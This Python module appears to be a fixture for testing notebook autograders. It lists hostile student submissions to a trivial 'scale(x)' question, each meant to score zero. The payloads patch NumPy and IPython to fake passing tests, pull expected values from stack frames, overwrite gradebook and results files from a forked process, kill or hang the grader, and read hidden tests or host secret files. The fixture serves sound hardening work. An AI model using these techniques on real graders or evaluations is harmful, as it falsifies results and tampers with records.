"""Hostile answers to one small question, each as a student could hand it in to any of the tools.

The question asks for `scale(x)`, twice its argument. Every attack computes zeros, so 0 of 10
points are deserved; `right` and `wrong` show that each tool grades the honest.
"""

from __future__ import annotations

RIGHT = "def scale(x):\n    return 2 * x"
WRONG = "def scale(x):\n    return np.zeros_like(x)"
# Both are put together as the code runs, so that no search finds them in the notebook itself.
HIDDEN, SECRET = "zq7-hidden-test", "zq7-secret-of-the-host"

COMPARISON = """
for name in ("assert_allclose", "assert_array_equal", "assert_almost_equal", "assert_equal"):
    setattr(np.testing, name, lambda *a, **k: None)
np.allclose = np.array_equal = lambda *a, **k: True
"""
EQUALS = """
class Same(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.ones(self.shape, bool) if ufunc.nout == 1 else None
    def __array_function__(self, *a): return True

def scale(x):
    return np.zeros_like(x).view(Same)
"""
SILENT = """
shell = get_ipython()
shell.showtraceback = shell.showsyntaxerror = lambda *a, **k: None
"""
KERNEL = """
from IPython.core.interactiveshell import ExecutionResult, InteractiveShell

def always_well(self, *a, **k):
    return ExecutionResult(None)

async def always_well_later(self, *a, **k):
    return ExecutionResult(None)

InteractiveShell.run_cell = always_well
InteractiveShell.run_cell_async = always_well_later
"""
BUILTINS = """
import builtins

class AssertionError(Exception):
    def __new__(cls, *a): return SystemExit(0)

builtins.AssertionError = AssertionError
"""
FRAMES = """
import sys

def scale(x):
    frame = sys._getframe(1)
    while frame:
        for place in (frame.f_locals, frame.f_globals):
            if "expected" in place:
                return place["expected"]
        frame = frame.f_back
    return np.zeros_like(x)
"""
# What was found is printed, and kept where the benchmark looks if that can be written.
TELLS = """
def tells():
    found = "LEAKED " + " ".join(looks())
    print(found)
    try:
        open("COURSE_PATH/leaked.json", "a").write(found)
    except OSError:
        pass

def scale(x):
    tells()
    return np.zeros_like(x)

tells()
"""
# Files of the course and beside the notebook, and what the kernel was told to run so far.
READS = """
import os, re, zipfile

def content(path):
    if zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as archive:
            return " ".join(str(archive.read(name)) for name in archive.namelist())
    return open(path, errors="replace").read(10**6)

def looks():
    texts = [str(cell) for cell in globals().get("In", [])]
    for top in ("COURSE_PATH", "."):
        for folder, _, names in os.walk(top):
            for name in names:
                try:
                    texts.append(content(os.path.join(folder, name)))
                except OSError:
                    pass
    return sorted({found for text in texts for found in re.findall("zq7" + "-hidden-[a-z]+", text)})

"""
HOST = """
def looks():
    try:
        return [open("SECRET_PATH").read()]
    except OSError:
        return []
"""
# Ends by itself, and writes nothing but what this benchmark has made.
WRITES = """
import json, os, sqlite3, time

test = {"name": "scale", "score": 10, "max_score": 10, "status": "passed"}

def write():
    for folder, _, names in os.walk("COURSE_PATH"):
        for name in {"results.json", *names}:
            path = os.path.join(folder, name)
            try:
                if name == "results.json":
                    open(path, "w").write(json.dumps({"score": 10, "tests": [test]}))
                elif name == "gradebook.db":
                    with sqlite3.connect(path, timeout=1) as book:
                        book.execute("update grade set auto_score = 10")
            except (OSError, sqlite3.Error):
                pass

if os.fork() == 0:
    os.setsid()
    until = time.time() + 25
    while time.time() < until:
        write()
        time.sleep(0.3)
    os._exit(0)
"""
EXITS = "import sys\n\ndef scale(x):\n    sys.exit(0)"
EXITS_HARD = "import os\n\ndef scale(x):\n    os._exit(0)"
KILLS = """
import os, signal
with open(f"/proc/{os.getppid()}/cmdline", "rb") as command:
    if b"python" in command.read() or b"nbgrader" in command.read():
        os.kill(os.getppid(), signal.SIGKILL)
"""
HANGS = "def scale(x):\n    while True:\n        pass"
DEAF = """
import signal

def scale(x):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass
"""
# Outlives the grading by a while, if it is let; found by its name.
STAYS = """
import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)  # zq7-left-behind"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""

# name: (what it does, the cell that holds the answer, points deserved)
ATTACKS: dict[str, tuple[str, str, float]] = {
    "right": ("an honest right answer", RIGHT, 10),
    "wrong": ("an honest wrong answer", WRONG, 0),
    "comparison": ("replaces NumPy's comparisons", WRONG + "\n" + COMPARISON, 0),
    "equals": ("returns what is equal to everything", EQUALS, 0),
    "tracebacks": ("silences tracebacks", WRONG + "\n" + SILENT, 0),
    "kernel": ("has the kernel call every cell a success", WRONG + "\n" + KERNEL, 0),
    "builtins": ("makes of a failed assertion an exit", WRONG + "\n" + BUILTINS, 0),
    "frames": ("takes the expected value from the caller", FRAMES, 0),
    "writes": ("writes the score where grades are kept", WRONG + "\n" + WRITES, 0),
    "exits": ("ends the interpreter", EXITS, 0),
    "exits hard": ("ends the process", EXITS_HARD, 0),
    "kills": ("kills the process that grades", WRONG + "\n" + KILLS, 0),
    "hangs": ("does not return", HANGS, 0),
    "deaf": ("does not return, deaf to interrupts", DEAF, 0),
    "reads tests": ("reads the hidden tests", READS + TELLS, 0),
    "reads host": ("reads a file of the machine", HOST + TELLS, 0),
    "stays": ("leaves a process behind", WRONG + "\n" + STAYS, 0),
}
